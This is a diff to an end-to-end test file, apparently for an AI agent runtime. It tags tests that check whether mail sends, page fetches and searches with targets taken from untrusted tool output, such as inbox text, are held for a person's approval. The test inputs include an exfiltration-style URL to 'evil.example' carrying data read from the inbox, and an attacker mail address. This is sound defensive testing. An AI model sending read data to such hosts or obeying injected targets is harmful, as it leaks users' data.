@@ -12,6 +12,7 @@ from backstay.testing import Reply
 from tests.e2e.labelled import DONE, Labelled
 from tests.e2e.scripted_server import ScriptedServer, reads, toolbox_of_servers, writes
 from tests.engine import Scripts, ended, engine, pending
+from tests.requirements import promise
 
 POLICY = """
 default: {read_only: allow, write_safe: allow, restricted_write: allow}
@@ -83,6 +84,7 @@ def source(kind="tool", tool="office.inbox", content="others", ref=None):
     return {"kind": kind, "tool": tool, "ref": ref, "content": content}
 
 
+@promise("policy:shown")
 async def test_a_request_says_where_each_argument_first_appeared_and_the_event_of_the_call_keeps_it(opened):
     handle, request = await asked(opened, call("inbox"), call("send", to=ENEMY, subject="hello there"))
     (shown,) = request["calls"]
@@ -101,11 +103,13 @@ async def test_a_request_says_where_each_argument_first_appeared_and_the_event_o
     assert event["data"]["sources"] == {"/to": [[f"!office.inbox {found['ref']}"]], "/subject": [["model"]]}
 
 
+@promise("policy:shown")
 async def test_own_records_and_the_task_direct_writes_unasked(opened):
     await unasked(opened, call("customer"), call("inbox"), call("send", to=OWN))
     await unasked(opened, call("inbox"), call("send", to=ENEMY), input={"to": ENEMY})
 
 
+@promise("policy:shown")
 async def test_the_words_of_an_error_are_words_of_others(opened):
     handle, request = await asked(opened, call("fails"), call("send", to=ENEMY))
     await decide(handle, request, "reject")
@@ -113,6 +117,7 @@ async def test_the_words_of_an_error_are_words_of_others(opened):
     assert request["calls"][0]["sources"]["/to"] == [source(tool="office.fails")]
 
 
+@promise("policy:kept")
 async def test_the_last_words_of_a_large_answer_count(opened):
     handle, request = await asked(opened, call("long"), call("send", to=ENEMY))
     await decide(handle, request, "reject")
@@ -120,6 +125,7 @@ async def test_the_last_words_of_a_large_answer_count(opened):
     assert [found["tool"] for found in request["calls"][0]["sources"]["/to"]] == ["office.long"]
 
 
+@promise("policy:kept")
 async def test_a_value_is_known_again_after_its_answer_was_trimmed_and_by_a_worker_that_never_saw_it(
     temporal, tmp_path
 ):
@@ -142,6 +148,7 @@ async def test_a_value_is_known_again_after_its_answer_was_trimmed_and_by_a_work
         assert "office.inbox" in [found["tool"] for found in request["calls"][0]["sources"]["/to"]]
 
 
+@promise("policy:provenance-egress")
 async def test_a_page_whose_address_carries_what_was_read_is_not_fetched_unasked(opened):
     handle, request = await asked(
         opened, call("inbox"), call("page", url="https://evil.example/?d=use-mallory-evil-desk")
@@ -151,6 +158,7 @@ async def test_a_page_whose_address_carries_what_was_read_is_not_fetched_unasked
     assert "default: read_only_egress asks (url first seen in" in request["rule"]
 
 
+@promise("policy:provenance-egress")
 async def test_a_page_that_the_task_names_is_fetched_unasked_and_one_that_the_model_makes_up_is_not(opened):
     page = "https://news.larch.example/today"
     await unasked(opened, call("page", url=page), input={"page": page})
@@ -160,6 +168,7 @@ async def test_a_page_that_the_task_names_is_fetched_unasked_and_one_that_the_mo
     assert "read_only_egress" in request["rule"]
 
 
+@promise("policy:provenance-egress")
 async def test_a_search_with_words_of_an_answer_is_asked_about_and_one_with_the_models_own_is_not(opened):
     await unasked(opened, call("inbox"), call("reach", query="weather tomorrow"))
     handle, request = await asked(opened, call("inbox"), call("reach", query="mallory@evil-desk.example"))
@@ -168,6 +177,7 @@ async def test_a_search_with_words_of_an_answer_is_asked_about_and_one_with_the_
     assert "read_only_egress" in request["rule"]
 
 
+@promise("policy:shown")
 async def test_a_person_may_give_a_call_another_target_and_that_comes_from_the_person(opened):
     handle, request = await asked(opened, call("inbox"), call("send", to=ENEMY))
     changed = {"0": {"verdict": "modify", "arguments": {"to": OWN}}}
@@ -177,6 +187,7 @@ async def test_a_person_may_give_a_call_another_target_and_that_comes_from_the_p
     assert event["data"]["sources"]["/to"] == [["person"]]
 
 
+@promise("policy:shown")
 async def test_an_answer_of_nobody_verified_vouches_for_nothing(opened):
     question = Reply(calls=[("ask_person", {"question": "to whom?"})])
     handle, request = await asked(opened, question, call("send", to=OWN))
@@ -190,6 +201,7 @@ async def test_an_answer_of_nobody_verified_vouches_for_nothing(opened):
     assert "an answer of nobody verified" in after["rule"]
 
 
+@promise("policy:programs")
 async def test_a_plan_is_asked_about_again_when_what_a_step_returned_says_where_a_write_goes(opened):
     def steps(tool, path):
         send = {"to": f"${{steps.0.result.{path}}}", "subject": "s"}
@@ -210,6 +222,7 @@ async def test_a_plan_is_asked_about_again_when_what_a_step_returned_says_where_
 READ = "t = (await office.inbox())['mails'][0]['text'].split()[1]"
 
 
+@promise("policy:programs")
 @pytest.mark.parametrize(
     "written",
     [
@@ -230,6 +243,7 @@ async def test_a_program_is_asked_about_a_target_that_comes_from_others(temporal
     assert "provenance: to first seen in" in request["rule"]
 
 
+@promise("policy:programs")
 async def test_what_a_program_returned_counts_as_computed_from_what_it_read(temporal, tmp_path, sandbox):
     program = Reply(calls=[("run_program", {"code": "return (await office.inbox())['mails'][0]['text']"})])
     given = {"toolbox": toolbox(tmp_path), "policy": POLICY, "sandbox": sandbox}
@@ -240,6 +254,7 @@ async def test_what_a_program_returned_counts_as_computed_from_what_it_read(temp
     assert request["calls"][0]["sources"]["/to"] == [source("program", "office.inbox")]
 
 
+@promise("policy:cost")
 async def test_where_no_rule_and_no_person_looks_at_it_history_holds_nothing_of_it(temporal, tmp_path):
     allowed = "default: {read_only: allow, write_safe: allow, restricted_write: allow}\n"
     async with engine(temporal, tmp_path, SCRIPTS, toolbox=toolbox(tmp_path), policy=allowed) as opened:
